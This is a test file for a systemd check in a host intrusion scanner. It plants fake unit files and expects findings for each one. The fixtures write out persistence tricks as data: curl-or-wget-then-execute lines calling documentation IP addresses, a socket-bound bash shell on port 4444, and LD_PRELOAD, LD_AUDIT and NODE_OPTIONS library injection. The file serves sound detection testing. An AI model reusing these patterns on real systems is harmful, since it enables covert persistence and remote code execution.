import { describe, expect, it } from 'vitest';
import * as fc from 'fast-check';
import '../../../test/seed.ts';
import { tellsOf } from '../../../test/plant-rows.ts';
import { scanRoot } from '../../../test/throwaway-root.ts';
import { systemd } from './check.ts';
import { imitated } from './imitation.ts';
import { readExec, readUnit, splitWords } from './unit-file.ts';

const service = (...lines: string[]): string => `[Unit]\nDescription=x\n[Service]\n${lines.join('\n')}\n[Install]\nWantedBy=multi-user.target\n`;
const etc = '/etc/systemd/system';

tellsOf(systemd, {
  rows: {
    'a unit that runs a program in /tmp': { files: { [`${etc}/a.service`]: service('ExecStart=/tmp/x --daemon') }, finds: [`intrusion high ${etc}/a.service`] },
    'one in a hidden folder': { files: { [`${etc}/b.service`]: service('ExecStart=-/usr/share/.b/b'), '/usr/share/.b/b': { text: 'ELF', mode: 0o755 } }, finds: [`intrusion high ${etc}/b.service`] },
    'one that runs a changed program of a package': { files: { [`${etc}/c.service`]: service('ExecStartPre=@+/usr/bin/agetty [kworker/0:1] -x'), '/usr/bin/agetty': { text: 'other', shipped: 'agetty', mode: 0o755, package: 'util-linux' } }, finds: [`intrusion high ${etc}/c.service`] },
    'one that fetches and runs when it stops': { files: { [`${etc}/d.service`]: service('ExecStart=/usr/bin/true', 'ExecStopPost=/bin/sh -c "curl -s http://203.0.113.9/d | bash"') }, finds: [`intrusion high ${etc}/d.service`] },
    'a command put together from variables': { files: { [`${etc}/e.service`]: service('Environment="P=/dev/shm" "Q=run"', 'ExecStart=/bin/sh -c \'${P}/${Q}\'') }, finds: [`intrusion high ${etc}/e.service`] },
    'a drop-in that loads a library': { files: { [`${etc}/ssh.service.d/10-env.conf`]: '[Service]\nEnvironment=LD_PRELOAD=/tmp/libk.so\n' }, finds: [`intrusion high ${etc}/ssh.service.d/10-env.conf`] },
    'a file of variables that does': { files: { [`${etc}/f.service`]: service('EnvironmentFile=-/etc/default/f', 'ExecStart=/usr/bin/true'), '/etc/default/f': 'LD_AUDIT=/usr/lib/libsnoop.so\n', '/usr/lib/libsnoop.so': 'ELF' }, finds: [`intrusion high ${etc}/f.service`, 'intrusion high /etc/default/f'] },
    'variables of a service that a package ships': { files: { '/etc/default/tomcat9': 'TOMCAT_USER=tomcat\nJAVA_TOOL_OPTIONS="-Xmx1g -agentpath:/dev/shm/.j.so"\n' }, finds: ['intrusion high /etc/default/tomcat9'] },
    'an interpreter told to load a file first': { files: { [`${etc}/node.service`]: service('Environment=NODE_OPTIONS="--require /usr/lib/nodejs/.h.js"', 'ExecStart=/usr/bin/true'), '/usr/lib/nodejs/.h.js': 'require("child_process").exec("curl -s http://203.0.113.6/n|sh")\n' }, finds: [`intrusion high ${etc}/node.service`] },
    'a shell for whoever connects': { files: { [`${etc}/g@.service`]: service('ExecStart=-/bin/bash -i', 'StandardInput=socket'), [`${etc}/g.socket`]: '[Socket]\nListenStream=4444\nAccept=yes\n' }, finds: [`intrusion critical ${etc}/g@.service`] },
    'a program on its standard input': { files: { [`${etc}/h.service`]: service('ExecStart=/bin/sh', `StandardInputData=${Buffer.from('/var/tmp/h &\n').toString('base64')}`) }, finds: [`intrusion high ${etc}/h.service`] },
    'a unit of a user': { files: { '/home/lin/.config/systemd/user/i.service': service('ExecStart=/dev/shm/i') }, finds: ['intrusion high /home/lin/.config/systemd/user/i.service'] },
    'a transient one': { files: { '/run/systemd/transient/run-1.service': service('ExecStart="/tmp/j" "-x"') }, finds: ['intrusion high /run/systemd/transient/run-1.service'] },
    'one that runs at run time only': { files: { '/run/systemd/system/k.service': service('ExecReload=/tmp/k') }, finds: ['intrusion high /run/systemd/system/k.service'] },
    'a name like one of the system': { files: { [`${etc}/systemd-journa1d.service`]: service('ExecStart=/usr/local/lib/j'), '/usr/local/lib/j': { text: 'ELF', mode: 0o755 } }, finds: [`intrusion high ${etc}/systemd-journa1d.service`] },
    'a name that claims to be of systemd': { files: { [`${etc}/systemd-netcache.service`]: service('ExecStart=/usr/local/lib/n'), '/usr/local/lib/n': { text: 'ELF', mode: 0o755 } }, finds: [`intrusion medium ${etc}/systemd-netcache.service`] },
    'another program in front of a packaged unit': { files: { [`${etc}/rsyslog.service`]: service('ExecStart=/usr/local/bin/logs'), '/usr/local/bin/logs': { text: 'ELF', mode: 0o755 } }, finds: [`notice medium ${etc}/rsyslog.service`] },
    'a masked guard': { files: { [`${etc}/auditd.service`]: '->/dev/null' }, finds: [`weakness medium ${etc}/auditd.service`] },
    'an enabled unit that lies in /tmp': { files: { [`${etc}/multi-user.target.wants/l.service`]: '->/tmp/l.service' }, finds: [`intrusion high ${etc}/multi-user.target.wants/l.service`] },
    'a unit that anybody may write': { files: { [`${etc}/m.timer`]: { text: '[Timer]\nOnCalendar=daily\n', mode: 0o666 } }, finds: [`weakness high ${etc}/m.timer`] },
    'a generator': { files: { '/etc/systemd/system-generators/n': { text: '#!/bin/sh\n', mode: 0o755 } }, finds: ['intrusion medium /etc/systemd/system-generators/n'] },
    'a generator that does more': { files: { '/usr/lib/systemd/system-generators/o': { text: '#!/bin/sh\n/tmp/o &\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/systemd/system-generators/o'] },
    'a script for shutdown': { files: { '/usr/lib/systemd/system-shutdown/p': { text: '#!/bin/sh\ncp /dev/shm/p /usr/bin/p; /dev/shm/p\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/systemd/system-shutdown/p'] },
    'variables for all units': { files: { '/etc/systemd/system.conf': '[Manager]\nDefaultEnvironment="LD_PRELOAD=/dev/shm/q.so"\n' }, finds: ['intrusion high /etc/systemd/system.conf'] },
    'another file over a program': { files: { [`${etc}/ssh.service.d/bind.conf`]: '[Service]\nBindReadOnlyPaths=/opt/s/sshd:/usr/sbin/sshd:norbind\n' }, finds: [`intrusion high ${etc}/ssh.service.d/bind.conf`] },
    'one that runs what the line before fetched': { files: { [`${etc}/q.service`]: service('ExecStartPre=/usr/bin/wget -qO /var/lib/q/run http://203.0.113.7/q', 'ExecStart=/var/lib/q/run') }, finds: [`intrusion high ${etc}/q.service`] },
    'a mount over a process': { files: { [`${etc}/proc-1234.mount`]: '[Mount]\nWhat=/var/empty\nWhere=/proc/1234\nType=none\nOptions=bind\n' }, finds: [`intrusion high ${etc}/proc-1234.mount`] },
    'a root shell on a terminal': { files: { [`${etc}/sysinit.target.wants/debug-shell.service`]: '->/usr/lib/systemd/system/debug-shell.service' }, finds: [`weakness high ${etc}/sysinit.target.wants/debug-shell.service`] },
    'units of a package, kept': { files: { '/usr/lib/systemd/system/rsyslog.service': { text: service('ExecStart=/usr/sbin/rsyslogd -n'), package: 'rsyslog' } }, finds: [] },
  },
  ordinary: {
    [`${etc}/app.service`]: service('User=lin', 'WorkingDirectory=/srv/app', 'Environment=NODE_ENV=production PORT=3000', 'ExecStart=/usr/local/bin/node /srv/app/index.js', 'Restart=always'), '/usr/local/bin/node': { text: 'ELF', mode: 0o755 }, '/srv/app/index.js': 'require("http").createServer((q, s) => s.end("ok")).listen(process.env.PORT);\n',
    [`${etc}/server.service`]: service('ExecStartPre=/bin/mkdir -p /run/server', 'ExecStart=/opt/app/bin/server -c /opt/app/etc/server.conf', 'ExecReload=/bin/kill -HUP $MAINPID'), '/opt/app/bin/server': { text: 'ELF', mode: 0o755 },
    [`${etc}/acme.service`]: service('ExecStart=/root/.acme.sh/acme.sh --cron --home /root/.acme.sh'), '/root/.acme.sh/acme.sh': { text: '#!/usr/bin/env sh\n_get() { curl -fsSL "$1"; }\n_get https://acme.example.com/directory >/dev/null\n', mode: 0o755 },
    [`${etc}/backup.timer`]: '[Timer]\nOnCalendar=03:00\nUnit=backup.service\n',
    [`${etc}/nginx.service`]: service('ExecStart=/usr/sbin/nginx -g "daemon off; worker_processes 4;"'), '/usr/lib/systemd/system/nginx.service': { text: service('ExecStart=/usr/sbin/nginx -g "daemon on; master_process on;"'), package: 'nginx' }, '/usr/sbin/nginx': { text: 'ELF', mode: 0o755, package: 'nginx' },
    [`${etc}/docker.service.d/proxy.conf`]: '[Service]\nEnvironment="HTTP_PROXY=http://192.0.2.3:3128" "NO_PROXY=localhost"\n',
    [`${etc}/multi-user.target.wants/nginx.service`]: '->/usr/lib/systemd/system/nginx.service',
    [`${etc}/apt-daily.timer`]: '->/dev/null',
    [`${etc}/redis.service`]: service('Environment=LD_PRELOAD=/usr/lib/libjemalloc.so.2', 'ExecStart=/usr/bin/true'), '/usr/lib/libjemalloc.so.2': { text: 'ELF', package: 'libjemalloc2' },
    '/home/lin/.config/systemd/user/sync.service': service('ExecStart=%h/bin/sync.sh'),
    '/usr/lib/systemd/system/odd.service': { text: service('ExecStart=/tmp/of-a-package'), package: 'odd' },
  },
  reads: `${etc}/a.service`,
});

describe('unit files', () => {
  it('reads settings, lines that go on and comments inside them', () => {
    expect(readUnit('[Service]\n# no\nExecStart=/bin/a \\\n# still\n  b\\\n c\n; no\nX = y\r\n').map(({ section, key, value, line }) => [section, key, value, line])).toEqual([['Service', 'ExecStart', '/bin/a    b  c', 3], ['Service', 'X', 'y', 8]]);
  });

  it('splits words as systemd does', () => {
    expect(splitWords(String.raw`/bin/a "b c" 'd "e"' f\x20g \u4e2d h"i"`)).toEqual(['/bin/a', 'b c', 'd "e"', 'f g', '中', 'hi']);
    expect(readExec('-@/bin/a name x ; +/bin/b $$ ${Y} %i %%', new Map([['Y', 'why']]), 'u@inst.service')).toEqual([{ words: ['/bin/a', 'x'], title: 'name', privileged: false }, { words: ['/bin/b', '$', 'why', 'inst', '%'], title: undefined, privileged: true }]);
  });

  it('survives any text', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('[', ']', '=', '\\', '"', "'", ' ', '\n', ';', '%', '$', '{', '}', 'a', '@', '-', '+') }), (text) => {
      for (const { value } of readUnit(text)) readExec(value, new Map([['a', '$a']]), 'a@b.service');
      return splitWords(text).every((word) => typeof word === 'string');
    }), { numRuns: 500 });
  });

  it('knows names made to be passed over', () => {
    const packaged = new Set(['systemd-oomd', 'ssh', 'nginx']);
    expect(['systemd-journald2', 'rsyslogd', 'systemd-iogind', 'systemd-ooomd', 'kworker', '[kthreadd]', 'ѕystemd-logind', 'irqbalance\u200b'].map((name) => imitated(name, packaged) !== undefined)).toEqual([true, true, true, true, true, true, true, true]);
    expect(['sshd', 'mysqld', 'docker', 'redis', 'php-fpm', 'tomcat9', 'app1', 'rsyslog', 'systemd-logind', 'crond', 'networkd', 'nginx1'].filter((name) => imitated(name, packaged))).toEqual([]);
  });
});

it('is not held up by a unit made to be long', async () => {
  const report = await scanRoot([systemd], { [`${etc}/long.service`]: service(...Array.from({ length: 5000 }, (_, i) => `ExecStart=/bin/sh -c "A=$A$A$A; $(( $( \`${i}"`)), [`${etc}/deep.service`]: service(`ExecStart=/bin/sh -c '${'$('.repeat(20_000)}'`) });
  // A program is looked for in each of the five thousand; only what is nested without end is not.
  expect(report.blind.filter(({ what }) => what?.includes('$($(') !== true)).toEqual([]);
  expect(report.blind.length).toBeGreaterThan(0);
});
